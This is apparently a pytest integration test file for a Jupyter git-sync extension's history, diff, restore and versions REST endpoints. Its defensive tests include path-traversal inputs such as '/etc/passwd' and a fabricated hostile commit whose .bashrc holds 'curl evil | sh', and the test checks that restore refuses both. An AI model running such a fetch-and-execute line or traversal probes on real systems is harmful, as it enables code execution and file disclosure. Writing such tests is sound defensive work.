"""History, compare, restore and versions through the REST API of a real Jupyter server
(pytest-jupyter), syncing to the real git server."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from tornado.httpclient import HTTPClientError

from tests.gitserver import GitHTTPServer
from tests.helpers import async_wait_until, git, ref_or_none, show, user_git_state
from tests.helpers import start_extensions as start
from tests.test_app import (  # noqa: F401 (fixtures)
    BRANCH,
    gitsync_settings,
    gitsync_token,
    jp_root_dir,
    jp_server_config,
    override,
    state_is,
)
from tests.test_history import nb


async def call(jp_fetch: Any, endpoint: str, method: str = "GET", /, **args: Any) -> Any:
    """The JSON answer of a gitsync endpoint: GET with `args` as the query, POST as the body."""
    if method == "GET":
        query = {k: v for k, v in args.items() if v is not None}
        response = await jp_fetch("gitsync", endpoint, params=query)
    else:
        response = await jp_fetch("gitsync", endpoint, method=method, body=json.dumps(args))
    return json.loads(response.body)


async def refused(
    jp_fetch: Any, endpoint: str, method: str = "GET", /, **args: Any
) -> tuple[int, str]:
    """The status and message of a request that must fail."""
    with pytest.raises(HTTPClientError) as caught:
        await call(jp_fetch, endpoint, method, **args)
    assert caught.value.response is not None
    body = json.loads(caught.value.response.body)
    return caught.value.code, str(body.get("message"))


async def save(jp_fetch: Any, workspace: Path, path: str, text: str) -> str:
    """Write a file and wait until the engine has snapshotted it; the new tip."""
    before = ref_or_none(workspace, f"refs/heads/{BRANCH}")
    (workspace / path).parent.mkdir(parents=True, exist_ok=True)
    (workspace / path).write_text(text)

    def snapshotted() -> str | None:
        tip = ref_or_none(workspace, f"refs/heads/{BRANCH}")
        if tip is None or tip == before:
            return None
        return tip if show(workspace, tip, path) == text.encode() else None

    return await async_wait_until(snapshotted, what=f"a snapshot of {path}")


def is_ancestor(repo: Path, ancestor: str, commit: str) -> bool:
    done = subprocess.run(["git", "-C", str(repo), "merge-base", "--is-ancestor", ancestor, commit])
    return done.returncode == 0


def remote_has(git_server: GitHTTPServer, remote: str, ref: str) -> str | None:
    return ref_or_none(git_server.repo_path(remote), ref)


async def started(jp_serverapp: Any, jp_fetch: Any) -> None:
    await start(jp_serverapp)
    await async_wait_until(lambda: state_is(jp_fetch, "synced"), what="start-up")


async def test_history_file_and_diff_of_a_notebook(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path
) -> None:
    await started(jp_serverapp, jp_fetch)
    shas = [await save(jp_fetch, workspace, "work/paper.ipynb", nb(f"x = {i}")) for i in range(3)]
    answer = await call(jp_fetch, "history", path="work/paper.ipynb")
    assert [e["sha"] for e in answer["entries"]] == shas[::-1]
    assert answer["more"] is False
    entry = answer["entries"][0]
    assert set(entry) >= {"sha", "time", "message", "version", "versions", "session"}
    assert entry["this_session"] is True and entry["session"]
    assert entry["path"] == "work/paper.ipynb" and entry["version"] is None

    whole = await call(jp_fetch, "history", limit="2")
    assert len(whole["entries"]) == 2 and whole["more"] is True
    rest = await call(jp_fetch, "history", limit="500", before=whole["entries"][-1]["sha"])
    assert shas[0] in [e["sha"] for e in rest["entries"]]

    content = await call(jp_fetch, "file", path="work/paper.ipynb", sha=shas[0])
    assert content["type"] == "notebook" and content["format"] == "json"
    assert content["content"]["cells"][0]["source"] == "x = 0"

    diff = await call(jp_fetch, "diff", path="work/paper.ipynb", base=shas[0], remote=shas[2])
    assert diff["format"] == "notebook"
    cells = next(d for d in diff["diff"] if d["key"] == "cells")
    assert cells["diff"], "a cell-level change"
    against_disk = await call(jp_fetch, "diff", path="work/paper.ipynb", base=shas[0])
    assert against_disk == diff  # what is on disk is the last snapshot


async def test_restore_file_makes_a_new_snapshot_that_reaches_the_remote(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path, git_server: GitHTTPServer, remote: str
) -> None:
    await started(jp_serverapp, jp_fetch)
    first = await save(jp_fetch, workspace, "a.ipynb", nb("first"))
    await save(jp_fetch, workspace, "a.ipynb", nb("second"))
    (workspace / "a.ipynb").write_text(nb("unsaved edit"))  # not snapshotted yet
    before = user_git_state(workspace, BRANCH)
    answer = await call(jp_fetch, "restore-file", "POST", path="a.ipynb", sha=first)
    assert answer["path"] == "a.ipynb"
    new = answer["sha"]
    assert (workspace / "a.ipynb").read_text() == nb("first")
    assert git(workspace, "rev-parse", f"{new}^1") != first  # on top, not a rewind
    # the unsaved edit was snapshotted first: it is one step back
    assert show(workspace, f"{new}^1", "a.ipynb") == nb("unsaved edit").encode()
    await async_wait_until(
        lambda: remote_has(git_server, remote, f"refs/heads/{BRANCH}") == new,
        what="the restore snapshot on the remote",
    )
    assert user_git_state(workspace, BRANCH) == before
    # a file that was deleted since comes back, its folder too
    gone = await save(jp_fetch, workspace, "deep/er/notes.txt", "notes\n")
    (workspace / "deep" / "er" / "notes.txt").unlink()
    (workspace / "deep" / "er").rmdir()
    (workspace / "deep").rmdir()
    await call(jp_fetch, "restore-file", "POST", path="deep/er/notes.txt", sha=gone)
    assert (workspace / "deep" / "er" / "notes.txt").read_text() == "notes\n"


async def test_compare_and_restore_a_snapshot_from_before_a_rename(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path
) -> None:
    await started(jp_serverapp, jp_fetch)
    old = await save(jp_fetch, workspace, "a.ipynb", nb("x = 1", "y = 2"))
    (workspace / "a.ipynb").rename(workspace / "b.ipynb")
    moved = await async_wait_until(
        lambda: (
            (tip := ref_or_none(workspace, f"refs/heads/{BRANCH}")) != old
            and show(workspace, tip or "", "a.ipynb") is None
            and show(workspace, tip or "", "b.ipynb") is not None
            and tip
        ),
        what="a snapshot of the rename",
    )
    current = await save(jp_fetch, workspace, "b.ipynb", nb("x = 1", "y = 3"))
    entries = (await call(jp_fetch, "history", path="b.ipynb"))["entries"]
    assert [(e["sha"], e["path"]) for e in entries][-1] == (old, "a.ipynb")
    assert moved in [e["sha"] for e in entries]

    # compared under its name at that snapshot: one changed cell, not a whole new file
    for remote in (None, current):
        diff = await call(
            jp_fetch, "diff", path="b.ipynb", base=old, base_path="a.ipynb", remote=remote
        )
        assert [c["source"] for c in diff["base"]["cells"]] == ["x = 1", "y = 2"]
        cells = next(d for d in diff["diff"] if d["key"] == "cells")["diff"]
        assert [(d["op"], d["key"]) for d in cells] == [("patch", 1)], cells
    both = await call(
        jp_fetch, "diff", path="b.ipynb", base=old, base_path="a.ipynb",
        remote=moved, remote_path="b.ipynb",
    )  # fmt: skip
    assert not [d for d in both["diff"] if d["key"] == "cells"]  # renamed, not changed
    blind = await call(jp_fetch, "diff", path="b.ipynb", base=old)  # the old contract
    assert [d["op"] for d in next(d for d in blind["diff"] if d["key"] == "cells")["diff"]] == [
        "addrange"
    ]

    # bad or unknown names: refused, nothing written, no snapshot
    tip = ref_or_none(workspace, f"refs/heads/{BRANCH}")
    files = sorted(os.listdir(workspace))
    cases: list[tuple[int, str, str, dict[str, Any]]] = [
        (400, "diff", "GET", {"path": "b.ipynb", "base": old, "base_path": "../a.ipynb"}),
        (400, "diff", "GET", {"path": "b.ipynb", "base": old, "base_path": "/a.ipynb"}),
        (400, "diff", "GET", {"path": "b.ipynb", "base": old, "remote_path": "x/../b.ipynb"}),
        (404, "diff", "GET", {"path": "b.ipynb", "base": old, "base_path": "b.ipynb"}),
        (404, "diff", "GET", {"path": "b.ipynb", "base": old, "base_path": "c.ipynb"}),
        (
            404, "diff", "GET",
            {"path": "b.ipynb", "base": old, "remote": moved, "remote_path": "a.ipynb"},
        ),
        (400, "restore-file", "POST", {"path": "b.ipynb", "sha": old, "from_path": "../x"}),
        (400, "restore-file", "POST", {"path": "b.ipynb", "sha": old, "from_path": "/x"}),
        (400, "restore-file", "POST", {"path": "b.ipynb", "sha": old, "from_path": 3}),
        (404, "restore-file", "POST", {"path": "b.ipynb", "sha": old, "from_path": "b.ipynb"}),
        (404, "restore-file", "POST", {"path": "b.ipynb", "sha": moved, "from_path": "a.ipynb"}),
        (404, "restore-file", "POST", {"path": "b.ipynb", "sha": old}),  # the old contract
    ]  # fmt: skip
    for code, endpoint, method, args in cases:
        status, message = await refused(jp_fetch, endpoint, method, **args)
        assert (status, endpoint, args) == (code, endpoint, args), message
        assert message and "Traceback" not in message
    for twice in ("base_path", "remote_path"):
        query = [("path", "b.ipynb"), ("base", old), (twice, "a.ipynb"), (twice, "b.ipynb")]
        with pytest.raises(HTTPClientError) as caught:
            await jp_fetch("gitsync", "diff", params=query)
        assert caught.value.code == 400
    assert (ref_or_none(workspace, f"refs/heads/{BRANCH}"), sorted(os.listdir(workspace))) == (
        tip,
        files,
    )
    assert (workspace / "b.ipynb").read_text() == nb("x = 1", "y = 3")

    # restored from its old name: the old content under the current name, a new snapshot
    answer = await call(
        jp_fetch, "restore-file", "POST", path="b.ipynb", sha=old, from_path="a.ipynb"
    )
    assert answer["path"] == "b.ipynb" and answer["sha"] != current
    assert git(workspace, "rev-parse", f"{answer['sha']}^1") == current
    assert (workspace / "b.ipynb").read_text() == nb("x = 1", "y = 2")
    assert not (workspace / "a.ipynb").exists()
    assert show(workspace, answer["sha"], "b.ipynb") == nb("x = 1", "y = 2").encode()
    assert show(workspace, answer["sha"], "a.ipynb") is None
    assert "a.ipynb" in git(workspace, "log", "-1", "--format=%s", answer["sha"])


async def test_restore_workspace_leaves_files_the_sync_never_owned(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path, git_server: GitHTTPServer, remote: str
) -> None:
    (workspace / ".gitignore").write_text("ignored.log\n")
    await started(jp_serverapp, jp_fetch)
    await save(jp_fetch, workspace, "results.csv", "from the old snapshot\n")
    old = await save(jp_fetch, workspace, "kept.txt", "old\n")
    await save(jp_fetch, workspace, "kept.txt", "new\n")
    await save(jp_fetch, workspace, "later.txt", "added after\n")
    (workspace / "results.csv").unlink()
    await save(jp_fetch, workspace, ".gitignore", "ignored.log\nresults.csv\n")
    # files the sync never owned: ignored, excluded, skipped as a secret, and an ignored file
    # where the old snapshot has one
    (workspace / "ignored.log").write_text("ignored, never synced\n")
    (workspace / "__pycache__").mkdir()
    (workspace / "__pycache__" / "x.pyc").write_bytes(b"excluded")
    (workspace / "id_rsa").write_text("never synced: a credentials file\n")
    (workspace / "results.csv").write_text("mine now, ignored\n")
    user = user_git_state(workspace, BRANCH)
    answer = await call(jp_fetch, "restore-workspace", "POST", sha=old)
    assert user_git_state(workspace, BRANCH) == user  # HEAD, index, branches: the user's
    assert (workspace / "kept.txt").read_text() == "old\n"
    assert not (workspace / "later.txt").exists()  # the sync's own file, not in that snapshot
    assert (workspace / "ignored.log").read_text() == "ignored, never synced\n"
    assert (workspace / "__pycache__" / "x.pyc").read_bytes() == b"excluded"
    assert (workspace / "id_rsa").read_text() == "never synced: a credentials file\n"
    assert (workspace / "results.csv").read_text() == "mine now, ignored\n"
    assert "results.csv" in answer["not_restored"]
    assert (workspace / ".gitignore").read_text() == "ignored.log\n"  # as in that snapshot
    assert git(workspace, "rev-parse", f"{answer['sha']}^{{tree}}") != git(
        workspace, "rev-parse", f"{old}^{{tree}}"
    )  # results.csv stayed out of it: this workspace's file, not the snapshot's
    assert show(workspace, answer["sha"], "kept.txt") == b"old\n"
    bare = git_server.repo_path(remote)

    def pushed() -> bool:
        tip = remote_has(git_server, remote, f"refs/heads/{BRANCH}")
        return tip is not None and is_ancestor(bare, answer["sha"], tip)

    await async_wait_until(pushed, what="the restore pushed")
    # history still has everything: the restore is one more snapshot on top
    listed = [e["sha"] for e in (await call(jp_fetch, "history"))["entries"]]
    assert answer["sha"] in listed and old in listed
    assert listed.index(answer["sha"]) < listed.index(old)


async def test_versions_are_saved_pushed_listed_and_marked(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path, git_server: GitHTTPServer, remote: str
) -> None:
    await started(jp_serverapp, jp_fetch)
    await save(jp_fetch, workspace, "a.txt", "v1\n")
    (workspace / "a.txt").write_text("unsaved, in the version\n")
    version = await call(jp_fetch, "versions", "POST", name="draft-1", message="First draft")
    assert version["name"] == "draft-1" and version["message"] == "First draft"
    assert show(workspace, version["sha"], "a.txt") == b"unsaved, in the version\n"
    tag = f"refs/tags/{BRANCH}/draft-1"
    await async_wait_until(lambda: remote_has(git_server, remote, tag), what="the version pushed")
    bare = git_server.repo_path(remote)
    assert git(bare, "cat-file", "-t", tag) == "tag"
    assert git(bare, "rev-parse", f"{tag}^{{commit}}") == version["sha"]
    listed = (await call(jp_fetch, "versions"))["versions"]
    assert [(v["name"], v["sha"], v["message"]) for v in listed] == [
        ("draft-1", version["sha"], "First draft")
    ]
    entries = (await call(jp_fetch, "history", path="a.txt"))["entries"]
    marked = next(e for e in entries if e["sha"] == version["sha"])
    assert marked["version"] == "draft-1" and marked["versions"] == ["draft-1"]
    # an earlier snapshot by its sha
    older = entries[-1]["sha"]
    second = await call(jp_fetch, "versions", "POST", name="v0", message="", sha=older)
    assert second["sha"] == older and second["message"] == ""


@pytest.mark.parametrize(
    "name",
    [
        "a..b",
        "x.lock",
        "",
        "   ",
        "a" * 300,
        "with space",
        "a/b",
        "../x",
        "-x",
        ".x",
        "a~1",
        "a\x01",
    ],
)
async def test_a_bad_version_name_is_a_400_and_nothing_changes(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path, name: str
) -> None:
    await started(jp_serverapp, jp_fetch)
    tags_before = git(workspace, "for-each-ref", "refs/tags/")
    status, message = await refused(jp_fetch, "versions", "POST", name=name, message="m")
    assert status == 400 and "name" in message
    assert git(workspace, "for-each-ref", "refs/tags/") == tags_before


async def test_an_existing_version_name_is_a_400_and_nothing_changes(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path
) -> None:
    await started(jp_serverapp, jp_fetch)
    await save(jp_fetch, workspace, "a.txt", "a\n")
    first = await call(jp_fetch, "versions", "POST", name="same", message="first")
    await save(jp_fetch, workspace, "a.txt", "b\n")
    status, message = await refused(jp_fetch, "versions", "POST", name="same", message="again")
    assert status == 400 and "already" in message
    listed = (await call(jp_fetch, "versions"))["versions"]
    assert [(v["name"], v["sha"], v["message"]) for v in listed] == [
        ("same", first["sha"], "first")
    ]


async def test_bad_inputs_are_400_or_404_and_nothing_changes(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path
) -> None:
    await started(jp_serverapp, jp_fetch)
    sha = await save(jp_fetch, workspace, "a.txt", "a\n")
    before = {
        "files": sorted(os.listdir(workspace)),
        "tip": ref_or_none(workspace, f"refs/heads/{BRANCH}"),
        "user": user_git_state(workspace, BRANCH),
    }
    unknown = "1" * 40
    cases: list[tuple[int, str, str, dict[str, Any]]] = [
        (400, "history", "GET", {"path": "../x"}),
        (400, "history", "GET", {"path": "/etc/passwd"}),
        (400, "history", "GET", {"limit": "0"}),
        (400, "history", "GET", {"limit": "501"}),
        (400, "history", "GET", {"limit": "many"}),
        (400, "history", "GET", {"before": "abc"}),
        (404, "history", "GET", {"before": unknown}),
        (404, "history", "GET", {"path": "no-such-file.txt"}),
        (400, "file", "GET", {"path": "a.txt"}),
        (400, "file", "GET", {"path": "a/../../x", "sha": sha}),
        (404, "file", "GET", {"path": "a.txt", "sha": unknown}),
        (404, "file", "GET", {"path": "missing.txt", "sha": sha}),
        (400, "diff", "GET", {"path": "a.txt", "base": "HEAD"}),
        (404, "diff", "GET", {"path": "a.txt", "base": unknown}),
        (400, "restore-file", "POST", {"path": "../x", "sha": sha}),
        (400, "restore-file", "POST", {"path": "/tmp/x", "sha": sha}),
        (400, "restore-file", "POST", {"path": "a.txt", "sha": "main"}),
        (404, "restore-file", "POST", {"path": "a.txt", "sha": unknown}),
        (404, "restore-file", "POST", {"path": "missing.txt", "sha": sha}),
        (400, "restore-file", "POST", {"path": "a.txt"}),
        (400, "restore-workspace", "POST", {"sha": "abc"}),
        (404, "restore-workspace", "POST", {"sha": unknown}),
        (404, "versions", "POST", {"name": "ok", "message": "m", "sha": unknown}),
        (400, "versions", "POST", {"name": 3, "message": "m"}),
    ]
    for code, endpoint, method, args in cases:
        status, message = await refused(jp_fetch, endpoint, method, **args)
        assert (status, endpoint, args) == (code, endpoint, args), message
        assert message and "Traceback" not in message
    for body in (b"", b"[]", b"not json", b"[" * 50_000):
        with pytest.raises(HTTPClientError) as caught:
            await jp_fetch("gitsync", "restore-file", method="POST", body=body)
        assert caught.value.code == 400
    assert before == {
        "files": sorted(os.listdir(workspace)),
        "tip": ref_or_none(workspace, f"refs/heads/{BRANCH}"),
        "user": user_git_state(workspace, BRANCH),
    }
    assert git(workspace, "for-each-ref", "refs/tags/") == ""


async def test_restore_file_never_writes_what_the_sync_does_not_own(
    jp_serverapp: Any, jp_fetch: Any, workspace: Path
) -> None:
    """Content at a snapshot may come from a remote: a path that runs code at start, or an
    excluded one, is not written even if a snapshot holds it; nor is a local file the sync
    never owned replaced."""
    await started(jp_serverapp, jp_fetch)
    sha = await save(jp_fetch, workspace, "notes.txt", "synced\n")
    # a snapshot as a hostile push would make it: .bashrc and an excluded path in the tree
    hostile = _commit_with(workspace, sha, {".bashrc": b"curl evil | sh\n", ".ssh/config": b"x"})
    for path in (".bashrc", ".ssh/config"):
        status, message = await refused(jp_fetch, "restore-file", "POST", path=path, sha=hostile)
        assert status == 400 and "cannot be restored" in message
        assert not (workspace / path).exists()
    # nor under another name: screened where it was and where it would go
    for path, from_path in ((".bashrc", "notes.txt"), ("notes.txt", ".ssh/config")):
        status, message = await refused(
            jp_fetch, "restore-file", "POST", path=path, sha=hostile, from_path=from_path
        )
        assert status == 400 and "cannot be restored" in message
    assert not (workspace / ".bashrc").exists()
    assert (workspace / "notes.txt").read_text() == "synced\n"
    (workspace / ".gitignore").write_text("local.txt\n")
    (workspace / "local.txt").write_text("mine, ignored\n")
    with_local = _commit_with(workspace, sha, {"local.txt": b"from a snapshot\n"})
    status, message = await refused(
        jp_fetch, "restore-file", "POST", path="local.txt", sha=with_local
    )
    assert status == 400
    status, message = await refused(
        jp_fetch, "restore-file", "POST", path="local.txt", sha=sha, from_path="notes.txt"
    )
    assert status == 400
    assert (workspace / "local.txt").read_text() == "mine, ignored\n"


def _commit_with(workspace: Path, parent: str, files: dict[str, bytes]) -> str:
    """A commit on top of `parent` with `files` added (plumbing only: no ref, no index)."""
    env = {**os.environ, "GIT_INDEX_FILE": str(workspace / ".git" / "scratch-index")}
    subprocess.run(["git", "-C", str(workspace), "read-tree", parent], check=True, env=env)
    for path, data in files.items():
        blob = subprocess.run(
            ["git", "-C", str(workspace), "hash-object", "-w", "--stdin"],
            input=data, capture_output=True, check=True,
        ).stdout.decode().strip()  # fmt: skip
        subprocess.run(
            ["git", "-C", str(workspace), "update-index", "--add", "--cacheinfo",
             f"100644,{blob},{path}"],
            check=True, env=env,
        )  # fmt: skip
    tree = (
        subprocess.run(
            ["git", "-C", str(workspace), "write-tree"], capture_output=True, check=True, env=env
        )
        .stdout.decode()
        .strip()
    )
    (workspace / ".git" / "scratch-index").unlink()
    return git(workspace, "commit-tree", tree, "-p", parent, "-m", "hostile")
